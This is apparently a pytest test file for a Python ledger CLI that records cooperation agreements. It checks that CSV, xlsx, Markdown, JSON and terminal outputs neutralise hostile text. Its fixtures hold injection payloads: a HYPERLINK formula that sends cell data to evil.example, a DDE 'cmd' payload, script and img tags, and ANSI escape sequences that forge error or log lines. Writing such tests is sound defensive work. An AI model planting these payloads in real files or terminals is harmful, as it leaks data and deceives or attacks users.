"""Hostile text in a ledger: formulas, markup and control characters never come out live.

Titles, party names, notes and reasons are data. Whatever they hold, CSV cells are never
formulas in a spreadsheet, xlsx cells are strings, Markdown renders them as plain text, and
no text or table output passes a control character (an ESC sequence, a CR, a line break)
raw to a terminal. JSON and `ks show --format json` give the stored values back exactly.

The hostile ledger is the reference story (Kaltim and Jatim, July-August 2022) plus a
Jatim agency with an `<img>` for a name and three KSB with hostile titles; the hand-edited
ledger is the story with its append-only triggers dropped and ESC sequences written in.
"""

from __future__ import annotations

import contextlib
import csv
import io
import itertools
import json
import os
import re
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook
from tests.conftest import (
    RunKs,
    assert_refused,
    copy_ledger,
    direct,
    drop_trigger,
    every_trigger,
    ks_executable,
    ledger_digest,
)

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
DDE = "=cmd|' /C calc'!A0"
IMG = "<img src=http://evil.example/p.png>"
SCRIPT = "<script>alert(1)</script>"
LINKS = "![x](http://evil.example/t.png) [Klik](http://evil.example) <http://evil.example>"
EMPHASIS = "*tebal* _miring_ `kode` | pipa \\ garis # judul ~~coret~~ &lt;b&gt; +1 -1 @SUM(A1)"
AT_PARTY = "@SUM(1+1) Dinas Uji Provinsi Jawa Timur"
# What a spreadsheet reads as the start of a formula (OWASP), and what may not reach a terminal.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
RAW_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
AS_OF = ("--as-of", "2022-09-10")
SINCE = ("--since", "2022-08-31")


def ok(result: Any) -> str:
    assert result.returncode == 0, result.stdout + result.stderr
    return str(result.stdout)


@dataclass
class Hostile:
    """The hostile ledger, and the keys of its hostile agreements by their titles."""

    path: Path
    keys: dict[str, str]


@pytest.fixture(scope="module")
def hostile_template(
    story_source: Path,
    new_ledger: Callable[[Path, str], Path],
    tmp_path_factory: pytest.TempPathFactory,
) -> Hostile:
    """The story, and a Jatim agency named with an <img> that signed, ended and was
    evaluated under hostile words; one KSB with a term ending soon, one idle since January."""
    place = new_ledger(tmp_path_factory.mktemp("hostile"), "hostile.sqlite")
    path = copy_ledger(story_source, place)

    def run_ks(*args: str) -> subprocess.CompletedProcess[str]:
        env = {**os.environ, "KS_DB": str(path), "KS_BY": "tester", "NO_COLOR": "1"}
        return subprocess.run(
            [*ks_executable(), *args], capture_output=True, text=True, env=env, timeout=120
        )

    ok(run_ks("party", "add", IMG, "--region", "jatim", "--alias", "evil-jatim"))
    ok(run_ks("party", "add", AT_PARTY, "--region", "jatim", "--alias", "at-jatim"))

    def add(title: str, date: str, *term: str, party: str = "evil-jatim") -> str:
        result = run_ks(
            *("add-agreement", "--kind", "ksb", "--title", title, "--party", "kaltim"),
            *("--party", party, "--date", date, *term),
        )
        return ok(result).strip()

    def sign_both(key: str, date: str) -> None:
        ok(run_ks("sign", key, "--party", "kaltim", "--date", date))
        ok(run_ks("sign", key, "--party", "evil-jatim", "--date", date))

    ended = add(FORMULA, "2022-09-01")
    ok(run_ks("handover", ended, "--to", "evil-jatim", "--date", "2022-09-01", "--note", DDE))
    sign_both(ended, "2022-09-02")
    ok(run_ks("activity", "add", ended, "--date", "2022-09-03", "--description", SCRIPT))
    ok(run_ks("terminate", ended, "--date", "2022-09-05", "--reason", DDE))
    ok(run_ks("evaluate", ended, "--date", "2022-09-06", "--finding", LINKS,
              "--recommendation", "stop"))  # fmt: skip
    expiring = add(SCRIPT, "2022-09-01", "--start", "2022-09-01", "--end", "2022-10-31")
    sign_both(expiring, "2022-09-01")
    idle = add(LINKS, "2022-01-03")
    sign_both(idle, "2022-01-04")
    waiting = add(EMPHASIS, "2022-09-07", party="at-jatim")
    return Hostile(path, {FORMULA: ended, SCRIPT: expiring, LINKS: idle, EMPHASIS: waiting})


@pytest.fixture
def hostile(hostile_template: Hostile, ledger: Path) -> Hostile:
    """A fresh copy of the hostile ledger at the test's ledger path."""
    copy_ledger(hostile_template.path, ledger)
    return Hostile(ledger, hostile_template.keys)


# --- 5. spreadsheets ------------------------------------------------------------------------


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def test_csv_outputs_quote_formulas_as_text(hostile: Hostile, run_ks: RunKs) -> None:
    listed = csv_cells(ok(run_ks("list", "--format", "csv", *AS_OF)))
    pending = csv_cells(ok(run_ks("pending", "--format", "csv", *AS_OF)))
    report = csv_cells(ok(run_ks("report", "--format", "csv", *AS_OF, *SINCE)))
    for rows in (listed, pending, report):
        assert_no_formula(rows)
    titles = {row[0]: row[2] for row in listed[1:]}
    assert titles[hostile.keys[FORMULA]] == "'" + FORMULA
    assert titles[hostile.keys[EMPHASIS]] == EMPHASIS  # no formula: written as it is
    waiting = [row for row in pending if row[0] == hostile.keys[EMPHASIS]]
    assert {(row[2], row[3]) for row in waiting} == {
        (EMPHASIS, "'" + AT_PARTY),
        (EMPHASIS, "Pemerintah Provinsi Kalimantan Timur"),
    }
    assert ["'" + FORMULA in row for row in report].count(True) >= 2  # signed, ended


def test_numbers_are_not_text_and_keep_their_sign() -> None:
    from kerjasama_cli import render

    out = io.StringIO()
    render.write_csv([{"days": -3, "title": "-3"}], [("days", ""), ("title", "")], out)
    assert out.getvalue().splitlines()[1] == "-3,'-3"


def test_xlsx_report_has_only_string_cells_never_formulas(
    hostile: Hostile, run_ks: RunKs, tmp_path: Path
) -> None:
    path = tmp_path / "laporan.xlsx"
    ok(run_ks("report", "--format", "xlsx", "--out", str(path), *AS_OF, *SINCE))
    book = load_workbook(path)
    values = []
    pairs = set()  # (key, title) side by side in a row
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
            pairs.update((sheet.title, a.value, b.value) for a, b in itertools.pairwise(row))
    assert DDE in values  # the termination's reason, as written
    assert EMPHASIS in values  # the register has every agreement
    for title, sheet in ((FORMULA, "Tanda tangan"), (SCRIPT, "Segera berakhir"),
                         (LINKS, "Tanpa kegiatan")):  # fmt: skip
        assert (sheet, hostile.keys[title], title) in pairs, (sheet, title)


def test_json_and_show_give_the_stored_values_back_exactly(hostile: Hostile, run_ks: RunKs) -> None:
    listed = json.loads(ok(run_ks("list", "--format", "json", *AS_OF)))
    titles = {row["key"]: row["title"] for row in listed}
    for title, key in hostile.keys.items():
        assert titles[key] == title
        assert json.loads(ok(run_ks("show", key, "--format", "json")))["title"] == title
    detail = json.loads(ok(run_ks("show", hostile.keys[FORMULA], "--format", "json")))
    assert [p["party"] for p in detail["parties"]][1] == IMG
    assert detail["handovers"][0]["note"] == DDE
    assert detail["activities"][0]["description"] == SCRIPT
    report = json.loads(ok(run_ks("report", "--format", "json", *AS_OF, *SINCE)))
    assert report["changes"]["ended"][0]["reason"] == DDE


# --- 6. Markdown ------------------------------------------------------------------------------


def test_markdown_report_renders_every_value_as_plain_text(hostile: Hostile, run_ks: RunKs) -> None:
    text = ok(run_ks("report", "--format", "md", *AS_OF, *SINCE))
    parser = MarkdownIt("commonmark").enable("table")
    tokens = parser.parse(text)
    types = {t.type for t in tokens} | {c.type for t in tokens for c in t.children or []}
    assert not types & {"html_block", "html_inline", "link_open", "image", "code_inline"}
    assert not types & {"em_open", "strong_open", "s_open"}
    page = parser.render(text)
    for tag in ("<img", "<script", "<a ", "<em>", "<code>"):
        assert tag not in page
    cells = [
        "".join(c.content for c in t.children or [] if c.type == "text")
        for t in tokens
        if t.type == "inline"
    ]
    for title, key in hostile.keys.items():
        if key != hostile.keys[EMPHASIS]:  # not in any section: it only waits
            assert key in cells and title in cells, title
    assert DDE in cells and f"dihentikan: {LINKS}" in cells
    assert IMG in cells  # the party that signed


def test_markdown_escapes_emphasis_and_headings_in_a_value() -> None:
    from kerjasama_cli.report_render import _md

    rendered = (
        MarkdownIt("commonmark")
        .enable("table")
        .render(
            f"| a |\n|---|\n| {_md(EMPHASIS)} |\n\n{_md('# judul')}\n\n{_md('a' + chr(10) + '# b')}"
        )
    )
    assert "<em>" not in rendered and "<code>" not in rendered and "<h1>" not in rendered
    assert "<s>" not in rendered and "<b>" not in rendered


# --- 7. terminals and logs -----------------------------------------------------------------

ESC_TITLE = "\x1b[2J\x1b[31mDitimpa\nks: error: palsu\rX\tY\u202etxt.exe"
ESC_BY = "\x1b]0;dikuasai\x07\n42\t2026-01-01T00:00:00Z\tadmin\tregistered nobody"
ESC_NAME = "Dinas Pariwisata\x1b[8m Jatim\n\x9b2J"
ESC_HEAD = "\x1b[2J" + "0" * 60


@pytest.fixture
def edited(story_copy: Path) -> Path:
    """The story as someone with sqlite3 left it: triggers dropped, ESC sequences written in."""
    ledger = story_copy
    with direct(ledger) as conn:
        for name, table in every_trigger(conn):
            conn.execute(drop_trigger(f'"{name}"', table, ledger))
        conn.execute("UPDATE agreement SET title = ? WHERE key = 'PKS-2022-0005'", (ESC_TITLE,))
        conn.execute("UPDATE entry SET recorded_by = ? WHERE seq = 3", (ESC_BY,))
        conn.execute(
            "UPDATE party SET name = ? WHERE name = 'Dinas Kebudayaan dan Pariwisata Provinsi "
            "Jawa Timur'",
            (ESC_NAME,),
        )
        conn.execute("UPDATE entry SET hash = ? WHERE seq = (SELECT max(seq) FROM entry)",
                     (ESC_HEAD,))  # fmt: skip
    return ledger


def assert_visible(text: str, columns: int | None = None) -> None:
    """No raw control character but line ends (and tabs between `columns` cells)."""
    for line in text.splitlines():
        if columns is not None:
            assert line.count("\t") == columns - 1, repr(line)
        assert not RAW_CONTROL.search(line.replace("\t", "") if columns else line), repr(line)


def test_a_hand_edited_ledger_reaches_no_terminal_raw(edited: Path, run_ks: RunKs) -> None:
    listed = run_ks("list", *AS_OF)
    assert_visible(ok(listed), columns=5)
    assert len(ok(listed).splitlines()) == 1 + 8
    assert (
        "\\x1b[2J\\x1b[31mDitimpa\\x0aks: error: palsu\\x0dX\\x09Y\\u202etxt.exe" in listed.stdout
    )
    pending = ok(run_ks("pending", *AS_OF))
    assert_visible(pending, columns=5)
    assert len(pending.splitlines()) == 1 + len(json.loads(ok(run_ks("pending", "-f", "json"))))
    log = ok(run_ks("log"))
    assert_visible(log, columns=4)
    assert len(log.splitlines()) == 1 + 37
    assert "\\x1b]0;dikuasai\\x07\\x0a42\\x092026" in log
    shown = run_ks("show", "PKS-2022-0005")
    assert_visible(ok(shown))
    assert "Dinas Pariwisata\\x1b[8m Jatim\\x0a\\x9b2J" in shown.stdout
    for args in (("check", *AS_OF), ("verify",), ("db", "status")):
        result = run_ks(*args)
        assert result.returncode in (0, 1), result.stderr
        assert_visible(result.stdout + result.stderr)
    assert "\\x1b[2J000" in ok(run_ks("db", "status"))
    for fmt in ("csv", "md"):
        assert_visible(ok(run_ks("report", "--format", fmt, *AS_OF, "--since", "2022-07-01")))
    for args in (("list", "-f", "csv"), ("pending", "-f", "csv")):
        rows = csv_cells(ok(run_ks(*args)))
        assert all(not RAW_CONTROL.search(cell) for row in rows for cell in row), rows


def test_a_hand_edited_ledger_still_gives_its_values_back_exactly_in_json(
    edited: Path, run_ks: RunKs
) -> None:
    assert json.loads(ok(run_ks("show", "PKS-2022-0005", "-f", "json")))["title"] == ESC_TITLE
    listed = json.loads(ok(run_ks("list", "-f", "json")))
    assert {r["key"]: r["title"] for r in listed}["PKS-2022-0005"] == ESC_TITLE
    log = json.loads(ok(run_ks("log", "-f", "json")))
    assert log[2]["recorded_by"] == ESC_BY
    pending = json.loads(ok(run_ks("pending", "-f", "json")))
    assert ESC_NAME in {r["party"] for r in pending}


def test_a_refusal_quoting_ledger_text_is_one_visible_line(edited: Path, run_ks: RunKs) -> None:
    before = ledger_digest(edited)
    result = run_ks("sign", "PKS-2022-0005", "--party", "kaltim", "--date", "2022-09-01")
    assert_refused(result, "not a party to PKS-2022-0005", "\\x1b[8m")
    assert not RAW_CONTROL.search(result.stderr.rstrip("\n"))
    assert ledger_digest(edited) == before


def run_on_terminal(monkeypatch: pytest.MonkeyPatch, *argv: str) -> str:
    """`ks` in-process as on a terminal: the Rich table, captured without colours."""
    from kerjasama_cli import render
    from kerjasama_cli.cli import main

    monkeypatch.setattr(render, "on_terminal", lambda stream=None: True)
    monkeypatch.setenv("COLUMNS", "200")
    out = io.StringIO()
    with contextlib.redirect_stdout(out), pytest.raises(SystemExit) as exit_:
        main(list(argv))
    assert exit_.value.code == 0, out.getvalue()
    return out.getvalue()


def test_terminal_tables_show_control_characters_visibly(
    edited: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for args in (("list", *AS_OF), ("pending", "--all", *AS_OF), ("log",)):
        drawn = run_on_terminal(monkeypatch, "--db", str(edited), *args)
        assert "│" in drawn or "┃" in drawn  # a Rich table, not the plain text
        assert_visible(drawn)
        assert "\\x1b" in drawn


def test_an_os_user_name_with_control_characters_is_recorded_visibly(
    ledger: Path, run_ks: RunKs
) -> None:
    name = "\x1b[2Jpetugas\nks: error: palsu"
    env = {"KS_BY": "", "LOGNAME": name, "USER": name}
    result = run_ks("party", "add", "Biro Pemerintahan Provinsi Jawa Timur", "--region", "jatim",
                    env=env)  # fmt: skip
    assert result.returncode == 0, result.stderr
    (entry,) = json.loads(ok(run_ks("log", "--format", "json")))
    assert entry["recorded_by"] == "\\x1b[2Jpetugas\\x0aks: error: palsu"
    refused = run_ks("--by", "a\x1bb", "party", "add", "Biro Umum", "--region", "jatim")
    assert_refused(refused, "--by", "control character")
